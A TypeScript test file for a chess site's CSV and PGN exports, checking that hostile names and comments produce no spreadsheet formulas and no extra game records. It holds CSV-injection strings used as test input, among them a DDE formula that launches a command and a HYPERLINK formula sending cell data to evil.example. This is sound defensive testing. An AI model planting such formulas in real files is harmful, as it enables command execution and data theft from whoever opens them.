/** Files the site gives away, full of hostile words: tables run no formula, records stay one game each. */
import { afterAll, beforeAll, expect, test } from 'vitest';
import { readPgn, writePgn } from '../client/analysis/pgn.ts';
import { nodeOf, ROOT, setComment, type Tree } from '../client/analysis/tree.ts';
import { pgnOfGame } from '../src/games/pgn.ts';
import { PAYLOADS } from './support/payloads.ts';
import { openTestSite, type TestSite } from './support/site.ts';

const HOUR = 3_600_000;
/** What programs of tables take for formulas, in the disguises they see through. */
const FORMULAS = ['=', '+', '-', '@', '\t=', '\r=', ' =', '＝', '＋', '－', '＠'].flatMap((sign) => [
  `${sign}cmd|' /C calc'!A0`,
  `${sign}HYPERLINK("http://evil.example?x="&A1,"x")`,
]);
const WORDS = [...PAYLOADS, ...FORMULAS];

let site: TestSite;
let boss: Awaited<ReturnType<TestSite['person']>>;
/** An event of people with hostile names, and one with a hostile name in which a game is played. */
let listed = '';
let played = '';

/** The cells of a table file, as RFC 4180 reads them. */
function cellsOf(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  for (const [, quoted, plain, end] of text
    .replace(/^\uFEFF/u, '')
    .matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/gu)) {
    if (end === '' && quoted === undefined && plain === '') continue;
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? plain ?? '');
    if (end === '\r\n') rows.push([]);
  }
  return rows.filter((row) => row.length > 0);
}

const isFormula = (cell: string): boolean => /^\s*[=+\-@＝＋－＠]|^[\t\r]/u.test(cell);

beforeAll(async () => {
  site = await openTestSite();
  boss = await site.person('boss', 'administrator');
  const players = await Promise.all(['ann', 'bob', 'carl', 'dora'].map((login) => site.person(login)));
  const by = { userId: boss.user.id, roles: boss.user.roles };
  const announce = async (name: string, system: 'swiss-dutch' | 'round-robin'): Promise<string> => {
    const done = await site.tournaments.announce(
      {
        name,
        regulation: '',
        system,
        kind: 'chess',
        control: { mode: 'sudden', baseMs: HOUR },
        firstMoveMs: HOUR,
        registrationFrom: site.now(),
        registrationTo: site.now() + HOUR,
        startsAt: site.now() + HOUR,
        tieBreaks: ['DSB'],
        pace: 'rounds',
        ...(system === 'swiss-dutch' ? { rounds: 3 } : {}),
        rated: false,
      },
      by,
    );
    if (!done.ok) throw new Error(JSON.stringify(done.refusal));
    return done.value.id;
  };
  listed = await announce('Names', 'swiss-dutch');
  played = await announce(`${PAYLOADS[1]} [Result "1-0"] \\`, 'round-robin');
  for (const { user } of players) await site.tournaments.register(played, { userId: user.id, roles: [] });
  for (const name of WORDS.filter(({ length }) => length <= 100)) {
    const persons = [{ userId: null, rating: null }];
    const names = [{ name, title: null, federation: null }];
    const done = await site.tournaments.judge(listed, { type: 'EnterPersons', persons }, by, { names });
    if (!done.ok) throw new Error(`${name}: ${done.refusal.code}`);
  }
  site.clock.instant += HOUR;
  site.deadlines.wake();
  await site.deadlines.settled();
});
afterAll(() => site.close());

test('R-203 R-396 the table of an event holds no formula and as many cells in every line', async () => {
  const answer = await site.visitor().get(`/tournament/${listed}/table.csv`);
  expect(answer.statusCode).toBe(200);
  expect(answer.headers['content-type']).toContain('text/csv');
  expect(answer.headers['x-content-type-options']).toBe('nosniff');
  const rows = cellsOf(answer.body);
  expect(rows.length).toBeGreaterThan(80);
  expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
  expect(rows.flat().filter(isFormula)).toEqual([]);
  // Nothing but the apostrophe is added: the names are all there.
  expect(rows.map((row) => row[2])).toContain(PAYLOADS[1]);
  expect(rows.map((row) => row[2])).toContain(`'${FORMULAS[0]}`);
});

test('R-387 R-396 the log of acts as a table holds no formula, whatever was written as a reason', async () => {
  for (const note of WORDS) {
    const done = await site.moderation.setSetting('contact', 'boss@club.example', note, boss.user);
    if (!done.ok) throw new Error(done.refusal.code);
  }
  const answer = await boss.get('/admin/log.csv');
  expect(answer.headers['content-type']).toContain('text/csv');
  expect(answer.headers['content-disposition']).toContain('attachment');
  const rows = cellsOf(answer.body);
  expect(rows.length).toBeGreaterThan(WORDS.length);
  expect(new Set(rows.map(({ length }) => length)).size).toBe(1);
  expect(rows.flat().filter(isFormula)).toEqual([]);
});

test('R-203 R-396 the games of an event with a hostile name are as many games, each tag on one line', async () => {
  const answer = await site.visitor().get(`/tournament/${played}/games.pgn`);
  expect(answer.statusCode).toBe(200);
  expect(answer.headers['content-type']).not.toContain('html');
  expect(answer.headers['x-content-type-options']).toBe('nosniff');
  expect(answer.body).toContain('window.hit=1');
  for (const line of answer.body.split('\n').filter((one) => one.startsWith('[')))
    expect(line).toMatch(/^\[\w+ "(?:[^"\\]|\\["\\])*"\]$/u);
  const games = answer.body.match(/^\[Event /gmu)?.length ?? 0;
  expect(answer.body.match(/^\[Result /gmu)?.length).toBe(games);
});

test('R-396 a hundred payloads as names and event leave a record of one game with its own moves', async () => {
  const game = await site.games.byNumber(1);
  if (game === null) throw new Error('no game');
  for (const text of WORDS) {
    const hostile = {
      ...game,
      white: { ...game.white, login: text },
      black: { ...game.black, login: text },
      tournament: { id: played, name: text, round: 1, board: 1 },
    };
    const pgn = pgnOfGame(hostile, 'https://chess.example/game/1');
    const [tags = '', ...movetext] = pgn.split('\n\n');
    for (const line of tags.split('\n')) expect(line).toMatch(/^\[\w+ "(?:[^"\\]|\\["\\])*"\]$/u);
    expect(tags.match(/^\[Result /gmu)).toHaveLength(1);
    expect(movetext.join()).not.toContain('hit');
    const plain = text.replaceAll(/\p{Cc}/gu, ' ');
    expect(tags).toContain(`[White "${plain.replaceAll('\\', '\\\\').replaceAll('"', '\\"')}"]`);
  }
});

const sansOf = (tree: Tree): readonly string[] => [...tree.nodes.values()].map(({ san }) => san);

test('R-396 an analysis with a hundred payloads as comments and tags comes back as the same game', () => {
  const read = readPgn('[Event "x"]\n\n1. e4 e5 2. Nf3 *\n');
  if (!read.ok) throw new Error(read.fault.code);
  for (const text of WORDS) {
    const comment = `${text} } 1. d4 {`;
    const first = nodeOf(read.tree, ROOT).children[0] ?? ROOT;
    const tree = setComment(setComment(read.tree, ROOT, comment), first, comment);
    const pgn = writePgn(tree, { ...read.tags, White: text, Event: text });
    const again = readPgn(pgn);
    if (!again.ok) throw new Error(again.fault.code);
    expect(sansOf(again.tree)).toEqual(sansOf(read.tree));
    expect(pgn.match(/^\[Event "/gmu)).toHaveLength(1);
    expect(again.tags['White']).toBe(text.replaceAll(/\p{Cc}/gu, ' '));
  }
});
